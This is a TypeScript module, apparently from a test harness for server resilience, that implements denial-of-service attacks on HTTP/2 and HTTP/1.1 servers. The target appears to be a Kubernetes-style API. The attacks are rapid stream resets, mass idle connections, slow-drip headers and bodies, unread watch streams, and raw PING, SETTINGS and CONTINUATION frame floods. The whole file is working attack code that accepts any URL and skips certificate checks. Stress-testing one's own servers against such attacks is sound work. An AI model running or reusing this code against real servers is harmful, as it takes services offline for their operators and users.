/** What connections can do to a server by themselves: be many, be slow, or send frames that cost more than they say. */
import { type ClientHttp2Session, connect as connectHttp2 } from 'node:http2'
import { connect as connectTls, type TLSSocket } from 'node:tls'
import { durationMs, oneAfterAnother, scaled, sleep, type WholeAttack } from './attack-outcome.ts'
import type { Target } from './attack-run.ts'

type Protocol = 'h2' | 'http/1.1'

export function open({ url }: Target, protocol: Protocol): TLSSocket {
  const { hostname, port } = new URL(url)
  const socket = connectTls({ host: hostname, port: Number(port), rejectUnauthorized: false, ALPNProtocols: [protocol] })
  socket.on('error', () => {})
  return socket
}

export const isOpen = (socket: TLSSocket): Promise<boolean> =>
  new Promise((resolve) => {
    socket.once('secureConnect', () => resolve(true))
    socket.once('close', () => resolve(false))
  })

/** So many connections, a few at a time. */
async function openMany(target: Target, count: number, protocol: Protocol): Promise<TLSSocket[]> {
  const sockets: TLSSocket[] = []
  while (sockets.length < count) {
    const batch = Array.from({ length: Math.min(10, count - sockets.length) }, () => open(target, protocol))
    await Promise.all(batch.map(isOpen))
    sockets.push(...batch)
  }
  return sockets
}

export const nothing = { slowestMs: 0, answered: 0 }

/** Streams that are begun and reset at once, by somebody unknown, on one connection after another. */
export const rapidReset: WholeAttack = async ({ url }, scale) => {
  let requests = 0
  const endMs = performance.now() + durationMs * scale
  const lane = async () => {
    do {
      const session: ClientHttp2Session = connectHttp2(url, { rejectUnauthorized: false })
      session.on('error', () => {})
      await new Promise((resolve) => session.once('connect', resolve).once('close', resolve))
      for (let index = 0; index < 2000 && !session.closed && !session.destroyed; index++) {
        const stream = session.request({ ':path': '/api/v1/secrets' })
        stream.on('error', () => {})
        stream.close(8)
        requests++
        if (index % 100 === 99) await sleep(0)
      }
      session.destroy()
      await sleep(1)
    } while (performance.now() < endMs)
  }
  await Promise.all([lane(), lane(), lane(), lane()])
  return { ...nothing, requests }
}

/** Connections that have said who they are, and nothing else. */
export const idleConnections: WholeAttack = async (target, scale) => {
  const sockets = await openMany(target, scaled(5000, scale), 'h2')
  await sleep(3000 * scale)
  for (const socket of sockets) socket.destroy()
  return { ...nothing, requests: sockets.length }
}

/** Heads of requests that come a byte at a time, and never end. */
export const slowHeaders: WholeAttack = async (target, scale) => {
  const sockets = await openMany(target, scaled(1000, scale), 'http/1.1')
  for (const socket of sockets) socket.write('GET /api/v1/namespaces HTTP/1.1\r\nhost: a\r\nx-slow: ')
  await dripping(sockets, 'x', scale)
  return { ...nothing, requests: sockets.length }
}

/** Bodies that come a byte at a time, and never end. */
export const slowBodies: WholeAttack = async (target, scale) => {
  const sockets = await openMany(target, scaled(1000, scale), 'http/1.1')
  const head = ['POST /api/v1/namespaces/default/configmaps HTTP/1.1', 'host: a', `authorization: Bearer ${target.token}`]
  for (const socket of sockets) socket.write([...head, 'content-type: application/json', 'content-length: 1000', '', '{'].join('\r\n'))
  await dripping(sockets, ' ', scale)
  return { ...nothing, requests: sockets.length }
}

async function dripping(sockets: readonly TLSSocket[], drop: string, scale: number): Promise<void> {
  for (const endMs = performance.now() + durationMs * scale; performance.now() < endMs; ) {
    for (const socket of sockets) if (!socket.destroyed) socket.write(drop)
    await sleep(Math.min(500, durationMs * scale))
  }
  for (const socket of sockets) socket.destroy()
}

/** Watches whose client takes nothing, while what they watch changes. */
export const unreadWatches: WholeAttack = async (target, scale) => {
  const sessions = Array.from({ length: 4 }, () => {
    const session = connectHttp2(target.url, { rejectUnauthorized: false, settings: { initialWindowSize: 1 } })
    session.on('error', () => {})
    return session
  })
  const each = scaled(500, scale)
  for (const session of sessions) {
    for (let index = 0; index < each; index++) {
      const stream = session.request({ ':path': '/api/v1/configmaps?watch=true', authorization: `Bearer ${target.token}` })
      stream.on('error', () => {})
      stream.pause()
    }
  }
  const body = (count: number) =>
    JSON.stringify({ metadata: { name: 'watched' }, data: { fill: 'x'.repeat(200_000), count: String(count) } })
  const path = '/api/v1/namespaces/default/configmaps'
  const writes = Array.from(
    { length: scaled(50, scale) },
    (_, count) => ['PUT', `${path}/watched`, body(count)] as [string, string, string],
  )
  const outcome = await oneAfterAnother(target, [['POST', path, body(0)], ...writes, ['DELETE', `${path}/watched`, '']])
  for (const session of sessions) session.destroy()
  return { ...outcome, requests: outcome.requests + 4 * each }
}

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')

function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

const settings = frame(4, 0, 0)
/** :method GET, :scheme https, :path /, as the table of HPACK has them. */
const headerBlock = Buffer.from([0x82, 0x87, 0x84])
/** A header that is not in the table: x: y. */
const oneMore = Buffer.from([0x00, 0x01, 0x78, 0x01, 0x79])

/** The same frame by the hundred thousand, to a server whose answers nobody reads; on a new connection where it was cut off. */
const flood =
  (first: Buffer, repeated: Buffer): WholeAttack =>
  async (target, scale) => {
    let requests = 0
    const many = Buffer.alloc(repeated.length * 1000, repeated)
    const endMs = performance.now() + durationMs * scale
    const lane = async () => {
      // Once at least: on a busy machine the time may be up before there is a connection.
      do {
        const socket = open(target, 'h2')
        if (!(await isOpen(socket))) continue
        socket.pause()
        socket.write(Buffer.concat([preface, settings, first]))
        do {
          requests += 1000
          // A server that has cut the connection is noticed by a write that fails.
          if (!socket.write(many))
            await Promise.race([new Promise((resolve) => socket.once('drain', resolve).once('close', resolve)), sleep(50)])
          else await sleep(0)
        } while (performance.now() < endMs && !socket.destroyed)
        socket.destroy()
        await sleep(1)
      } while (performance.now() < endMs)
    }
    await Promise.all([lane(), lane()])
    return { ...nothing, requests }
  }

const frames = { ping: frame(6, 0, 0, Buffer.alloc(8)), settings: frame(4, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100])) }

export const pingFlood = flood(Buffer.alloc(0), frames.ping)
export const settingsFlood = flood(Buffer.alloc(0), frames.settings)
/** Headers of one request that never end. */
export const continuationFlood = flood(frame(1, 0x01, 1, headerBlock), frame(9, 0, 1, oneMore))

/** Whether the server ends the connection; else it has acknowledged all of them. */
export async function cutOffAfter(target: Target, name: keyof typeof frames, count: number): Promise<boolean> {
  const socket = open(target, 'h2')
  if (!(await isOpen(socket))) throw new Error('no connection')
  socket.write(Buffer.concat([preface, settings, ...Array.from({ length: count }, () => frames[name])]))
  let receivedBytes = 0
  return new Promise((resolve) => {
    socket.on('data', (piece: Buffer) => {
      receivedBytes += piece.length
      if (receivedBytes >= count * frames.ping.length) resolve(false)
    })
    socket.once('close', () => resolve(true))
  }).finally(() => socket.destroy()) as Promise<boolean>
}
